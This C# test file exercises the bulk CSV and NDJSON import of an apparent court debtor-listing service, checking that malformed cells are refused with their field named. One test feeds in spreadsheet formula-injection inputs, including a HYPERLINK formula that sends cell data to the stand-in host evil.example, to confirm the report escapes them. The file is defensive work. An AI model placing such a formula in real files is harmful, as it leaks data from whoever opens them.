using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Credit.Tests.Api;
using Credit.Tests.Infrastructure;
using static Credit.Tests.Bulk.BulkJobs;
using static Credit.Tests.Infrastructure.CourtRequests;

namespace Credit.Tests.Bulk;

/// <summary>A cell is read as what it says or refused naming its field: never as some other value the court did not write,
/// never by failing the whole file, and never echoed into the report as a formula Excel would run.</summary>
[Collection(PlatformCollection.Name)]
public sealed class BulkCellTests(PlatformFixture fixture)
{
    private HttpClient Liwan => fixture.Platform.Client(PlatformFixture.Liwan);

    private static string[] Listing(string id, Action<Dictionary<string, string>> change)
    {
        var row = ChineseListingHeader.Zip(ListingRow(id, CaseNumber())).ToDictionary(p => p.First, p => p.Second);
        change(row);
        return [.. ChineseListingHeader.Select(h => row[h])];
    }

    [Fact]
    public async Task Values_that_net_would_read_as_other_values_are_refused_naming_their_field_and_rule()
    {
        var cases = new (string Why, Action<Dictionary<string, string>> Change, string Field, string Rule, string Column)[]
        {
            ("two grounds read as flags would be a third", r => r["失信情形"] = "RefusesDespiteAbility, ObstructsEnforcement", "grounds[0].ground", "must be one of", "ground (失信情形)"),
            ("two statuses", r => r["履行情况"] = "NotPerformed,PartlyPerformed", "performance.status", "must be one of", "performance (履行情况)"),
            ("a number for a name", r => r["启动方式"] = "1", "initiative", "must be one of", "initiative (启动方式)"),
            ("commas that group nothing", r => r["欠款金额"] = "1,2,3", "amountOwed", "must be a number of yuan", "amountOwed (欠款金额)"),
            ("places beyond a decimal's 28 digits, which it would round to 250000", r => r["欠款金额"] = "250000.0000000000000000000000001", "amountOwed", "must have at most 2 decimal places (fen)", "amountOwed (欠款金额)"),
            ("a day February does not have", r => r["立案日期"] = "2026-02-30", "filingDate", "2026-02-30 has no such day", "filingDate (立案日期)"),
        };
        var ids = cases.Select(_ => Identities.AdultResidentId()).ToList();
        var file = Csv([ChineseListingHeader, .. cases.Select((c, i) => Listing(ids[i], c.Change))]);

        var job = await Liwan.SubmitAcceptedAsync(file);
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        for (var i = 0; i < cases.Length; i++)
        {
            var line = Assert.Single(report, r => r.Line == i + 2);
            Assert.True(line.Outcome == "Refused" && line.Field == cases[i].Field && line.Rule.Contains(cases[i].Rule, StringComparison.Ordinal)
                && line.Column == cases[i].Column, $"{cases[i].Why}: {line}");
            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(ids[i]))).StatusCode);
        }
    }

    [Fact]
    public async Task Grouped_thousands_are_read_as_the_amount_they_write()
    {
        var id = Identities.AdultResidentId();
        var job = await Liwan.SubmitAcceptedAsync(Csv([ChineseListingHeader, Listing(id, r => r["欠款金额"] = "1,250,000.50")]));
        await Liwan.WaitCompletedAsync(job);

        var subject = await (await Liwan.GetAsync(Person(id))).JsonAsync();
        Assert.Equal(1_250_000.50m, Assert.Single(subject.GetProperty("listings").EnumerateArray()).GetProperty("amountOwed").GetDecimal());
    }

    [Fact]
    public async Task A_nul_in_the_action_type_or_number_refuses_that_row_and_the_rest_of_the_file_is_taken()
    {
        var (good, broken) = (Identities.AdultResidentId(), Identities.AdultResidentId());
        var rows = new[]
        {
            Listing(broken, r => r["证件号码"] = "\0" + broken),
            Listing(Identities.AdultResidentId(), r => r["操作"] = "列入\0失信名单"),
            Listing(Identities.AdultResidentId(), r => r["证件类型"] = "居民\0身份证"),
            Listing(good, _ => { }),
        };

        var job = await Liwan.SubmitAcceptedAsync(Csv([ChineseListingHeader, .. rows]));
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        Assert.Equal(["Refused", "Refused", "Refused"], report.Where(r => r.Line is 2 or 3 or 4).DistinctBy(r => r.Line).Select(r => r.Outcome));
        Assert.Contains(report, r => r.Line == 2 && r.Number == "\u2400" + broken);
        Assert.Equal(HttpStatusCode.OK, (await Liwan.GetAsync(Person(good))).StatusCode);
    }

    [Fact]
    public async Task Report_cells_that_excel_would_run_as_formulas_are_written_as_text_and_the_report_opens_as_utf8()
    {
        var file = Csv([ChineseListingHeader,
            Listing(Identities.AdultResidentId(), r => r["操作"] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
            Listing(Identities.AdultResidentId(), r => r["证件号码"] = "=1+2"),
            Listing(Identities.AdultResidentId(), r => r["证件类型"] = "@SUM(1,2)")]);

        var job = await Liwan.SubmitAcceptedAsync(file);
        await Liwan.WaitCompletedAsync(job);
        var bytes = await Liwan.GetByteArrayAsync($"{job}/report", TestContext.Current.CancellationToken);

        Assert.Equal("EFBBBF", Convert.ToHexString(bytes[..3]));
        var cells = Encoding.UTF8.GetString(bytes[3..]).Split('\n').Skip(1).SelectMany(l => l.Split(',')).Select(c => c.Trim('"')).ToList();
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '@' or '+');
        Assert.Contains(cells, c => c == "'=1+2");
    }

    [Fact]
    public async Task An_ndjson_row_with_values_beside_its_request_or_a_member_twice_is_refused_naming_the_member()
    {
        var (beside, twice, caseBeside) = (Identities.AdultResidentId(), Identities.AdultResidentId(), Identities.AdultResidentId());
        var besideLine = JsonNode.Parse(NdjsonLine("listing", "resident-id", beside, PersonListing(CaseNumber(), "请求名")))!.AsObject();
        besideLine["name"] = "平铺名";
        var caseLine = NdjsonLine("listing", "resident-id", caseBeside, PersonListing(CaseNumber()), caseNumber: CaseNumber());
        var twiceLine = NdjsonLine("listing", "resident-id", twice, PersonListing(CaseNumber()))
            .Replace("\"number\":", $"\"number\":\"{Identities.AdultResidentId()}\",\"number\":", StringComparison.Ordinal);

        var job = await Liwan.SubmitAcceptedAsync(string.Join('\n', besideLine.ToJsonString(), twiceLine, caseLine), "application/x-ndjson");
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        Assert.Equal([("name", "Refused"), ("number", "Refused"), ("caseNumber", "Refused")], report.Select(r => (r.Field, r.Outcome)));
        foreach (var id in new[] { beside, twice, caseBeside })
            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(id))).StatusCode);
    }

    [Fact]
    public async Task A_row_that_cannot_be_read_still_names_its_subject_and_a_full_width_number_is_the_same_number()
    {
        var (cut, wide) = (Identities.AdultResidentId(), Identities.AdultResidentId());
        var fullWidth = string.Concat(wide.Select(c => char.IsAsciiDigit(c) ? (char)('０' + (c - '0')) : c));
        var file = Csv([ChineseListingHeader, ListingRow(cut, CaseNumber())[..^2], Listing(wide, r => r["证件号码"] = fullWidth)]);

        var job = await Liwan.SubmitAcceptedAsync(file);
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        Assert.Equal(("Refused", "列入失信名单", cut), (report[0].Outcome, report[0].Action, report[0].Number));
        Assert.Contains(report[1].Outcome, new[] { "Accepted", "AlreadyApplied" });
        Assert.Equal(HttpStatusCode.OK, (await Liwan.GetAsync(Person(wide))).StatusCode);
    }

    [Fact]
    public async Task A_job_id_that_is_not_one_is_400_naming_it_and_an_unknown_one_404_naming_it()
    {
        foreach (var path in new[] { $"{LiwanPath}/not-a-guid", $"{LiwanPath}/not-a-guid/report" })
            await ProblemAssert.IsProblem(await Liwan.GetAsync(path), HttpStatusCode.BadRequest, "jobId");
        foreach (var path in new[] { $"{LiwanPath}/{Guid.NewGuid()}", $"{LiwanPath}/{Guid.NewGuid()}/report" })
            Assert.Contains("jobId", await ProblemTextAsync(await Liwan.GetAsync(path), HttpStatusCode.NotFound));
    }

    private static async Task<string> ProblemTextAsync(HttpResponseMessage response, HttpStatusCode status)
    {
        Assert.Equal(status, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        return await response.Content.ReadAsStringAsync();
    }

    [Fact]
    public async Task A_member_given_twice_is_refused_naming_it_in_the_api_and_in_a_files_request()
    {
        // Last one wins, in JSON as .NET reads it: the second reason, CreditorRequest, bars listing the debtor again for six months.
        var id = Identities.AdultResidentId();
        var listing = await (await Liwan.PostAsync($"{Person(id)}/listings", PersonListing(CaseNumber()))).JsonAsync();
        var removal = """{"reason":"FullPerformance","reason":"CreditorRequest","explanation":"已全部履行"}""";

        var single = await ProblemAssert.IsProblem(await Liwan.PostRawAsync($"{Person(id)}/listings/{listing.GetProperty("id").GetString()}/removal", removal),
            HttpStatusCode.BadRequest, "reason");
        var ndjson = $$"""{"action":"removal","documentType":"resident-id","number":"{{id}}","itemId":"{{listing.GetProperty("id").GetString()}}","request":{{removal}}}""";
        var memberNamedWithNul = $$"""{"action":"listing","documentType":"resident-id","number":"{{Identities.AdultResidentId()}}","x\u0000y":"1"}""";
        var job = await Liwan.SubmitAcceptedAsync(ndjson + "\n" + memberNamedWithNul, "application/x-ndjson");
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        Assert.Contains("twice", single.GetRawText());
        Assert.Equal(("Refused", "reason"), (report[0].Outcome, report[0].Field));
        Assert.Equal(("Refused", "x\u2400y", "listing"), (report[1].Outcome, report[1].Field, report[1].Action));
        var stillListed = Assert.Single((await (await Liwan.GetAsync(Person(id))).JsonAsync()).GetProperty("listings").EnumerateArray());
        Assert.Equal("Active", stillListed.GetProperty("status").GetString());
    }

    [Fact]
    public async Task An_ndjson_name_sent_as_true_or_a_number_is_refused_and_an_id_sent_as_a_number_is_read()
    {
        var (named, numbered) = (Identities.AdultResidentId(), Identities.AdultResidentId());
        string Line(string id, string name) =>
            $$"""{"action":"restriction","documentType":"resident-id","number":{{id}},"name":{{name}},"caseNumber":"{{CaseNumber()}}","effectiveFrom":"{{Today}}","orderNumber":"令1","orderDate":"{{Today}}"}""";

        var job = await Liwan.SubmitAcceptedAsync(string.Join('\n', Line($"\"{named}\"", "true"), Line($"\"{numbered}\"", "123"),
            Line(Identities.AdultResidentId().Replace("X", "1", StringComparison.Ordinal)[..17] + "1", "\"张三\"")), "application/x-ndjson");
        await Liwan.WaitCompletedAsync(job);
        var report = await Liwan.ReportAsync(job);

        Assert.Equal([("Refused", "name"), ("Refused", "name")], report.Take(2).Select(r => (r.Outcome, r.Field)));
        Assert.NotEqual("row", report[2].Field);
    }

    [Fact]
    public async Task A_row_after_a_quoted_field_with_a_lone_carriage_return_keeps_its_line()
    {
        var (first, second) = (Identities.AdultResidentId(), Identities.AdultResidentId());
        var rows = Csv([ChineseListingHeader, ListingRow(first, CaseNumber(), name: "张三"), ListingRow(second, CaseNumber(), name: "李四")]).Split('\n');
        rows[1] = rows[1].Replace("支付货款100000元及利息", "\"支付货款\r100000元及利息\"", StringComparison.Ordinal);

        var job = await Liwan.SubmitAcceptedAsync(string.Join('\n', rows));
        await Liwan.WaitCompletedAsync(job);

        Assert.Equal([2, 4], (await Liwan.ReportAsync(job)).Select(r => r.Line).Distinct());
    }

    [Theory]
    [InlineData("\n")]
    [InlineData("")]
    public async Task A_quote_never_closed_refuses_the_file_naming_the_line_it_opens_on_and_nothing_is_stored(string end)
    {
        var ids = Enumerable.Range(0, 4).Select(_ => Identities.AdultResidentId()).ToList();
        var rows = Csv([ChineseListingHeader, .. ids.Select(id => ListingRow(id, CaseNumber()))]).TrimEnd('\r', '\n').Split('\n');
        rows[2] = rows[2].Replace(",支付货款", ",\"支付货款", StringComparison.Ordinal);

        var refused = await ProblemAssert.IsProblem(await Liwan.SubmitAsync(string.Join('\n', rows) + end), HttpStatusCode.BadRequest, "body");

        Assert.Contains("opened on line 3", refused.GetRawText());
        Assert.Contains("lines 3 to 5", refused.GetRawText());
        foreach (var id in ids)
            Assert.Equal(HttpStatusCode.NotFound, (await Liwan.GetAsync(Person(id))).StatusCode);
    }

    [Fact]
    public async Task A_quote_closed_lines_later_refuses_the_file_naming_the_lines_it_swallowed()
    {
        var ids = Enumerable.Range(0, 5).Select(_ => Identities.AdultResidentId()).ToList();
        var rows = Csv([ChineseListingHeader, .. ids.Select(id => ListingRow(id, CaseNumber()))]).TrimEnd('\r', '\n').Split('\n');
        rows[2] = rows[2].Replace(",支付货款", ",\"支付货款", StringComparison.Ordinal);
        rows[4] = rows[4].Replace(",支付货款", ",\"支付\"货款", StringComparison.Ordinal);

        var refused = await ProblemAssert.IsProblem(await Liwan.SubmitAsync(string.Join('\n', rows) + "\n"), HttpStatusCode.BadRequest, "body");

        Assert.Contains("opened on line 3", refused.GetRawText());
        Assert.Contains("lines 3 to 5", refused.GetRawText());
    }
}
